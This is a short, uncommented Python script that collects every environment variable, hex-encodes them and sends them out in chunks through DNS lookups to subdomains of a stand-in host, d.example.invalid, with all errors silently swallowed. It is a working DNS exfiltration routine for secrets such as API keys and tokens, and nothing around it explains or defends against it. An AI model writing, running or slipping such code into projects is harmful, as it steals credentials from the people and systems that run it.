import os, binascii, socket

def chunks(data, n=60):
    return [data[i:i + n] for i in range(0, len(data), n)]

for i, c in enumerate(chunks(binascii.hexlify(repr(dict(os.environ)).encode()).decode())):
    try:
        socket.getaddrinfo(f"{i}.{c}.d.example.invalid", 80)
    except Exception:
        pass
